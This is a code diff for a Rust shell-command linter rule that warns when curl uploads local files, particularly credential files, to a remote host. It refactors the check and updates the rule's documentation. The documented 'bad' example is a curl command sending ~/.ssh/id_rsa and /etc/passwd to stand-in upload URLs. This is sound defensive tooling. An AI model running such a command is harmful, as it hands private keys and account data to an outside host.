@@ -1,9 +1,9 @@
 //! `file-given-away`
 
 use crate::api::Address;
-use crate::curl::files::files;
 use crate::knowledge::hosts;
-use crate::knowledge::paths::{self, Deed};
+use crate::knowledge::paths::Deed;
+use crate::lint::rules::named::{Named, named};
 use crate::lint::{Check, Checks, Group, Rule};
 use crate::text::{Level, visible};
 
@@ -27,37 +27,31 @@ A file in the folder was put there.
 curl --data-binary @may.csv https://api.shop.example/import
 ```
 
-Of files that hold credentials this is a warning (`grammar/paths.tsv`).
+Of files that hold credentials this is a warning (`grammar/paths.tsv`), once for each, however many URLs get it.
 
 ```sh bad 2
-curl -F "key=@$HOME/.ssh/id_rsa" -F users=@/etc/passwd https://help.example/upload
+curl -F "key=@$HOME/.ssh/id_rsa" -F users=@/etc/passwd https://help.example/upload https://help.example/copy
 ```
 "#,
     check: Checks::Command(check),
 };
 
 fn check(on: &mut Check<'_>) {
-    let subject = on.subject;
-    for (request, _) in subject.requests() {
+    for Named { request, span, path, holds } in named(on, Deed::Read) {
         let address = Address::read(&request.url);
         let host = address.as_ref().map_or("the host", Address::host_name);
         if hosts::is_local(host) {
             continue;
         }
-        for file in files(request).into_iter().filter(|file| file.deed == Deed::Read) {
-            let path = file.path(request);
-            let (shown, host) = (visible(&path), visible(host));
-            let span = file.value.whole();
-            if let Some(what) = paths::holds(&path, Deed::Read) {
-                on.report(span, format!("`{shown}` is sent to `{host}`"))
-                    .level(Level::Warning)
-                    .why(format!("it holds {what}"))
-                    .advise("send nothing that you would not post");
-            } else if paths::is_outside(&path) {
-                on.report(span, format!("`{shown}` is sent, which is not below the folder that the command runs in"))
-                    .why("whoever wrote the command cannot know what it holds on your machine")
-                    .advise("look into it first, or name a file made for the purpose");
-            }
+        if let Some(what) = holds {
+            on.report(span, format!("`{path}` is sent to `{}`", visible(host)))
+                .level(Level::Warning)
+                .why(format!("it holds {what}"))
+                .advise("send nothing that you would not post");
+        } else {
+            on.report(span, format!("`{path}` is sent, which is not below the folder that the command runs in"))
+                .why("whoever wrote the command cannot know what it holds on your machine")
+                .advise("look into it first, or name a file made for the purpose");
         }
     }
 }
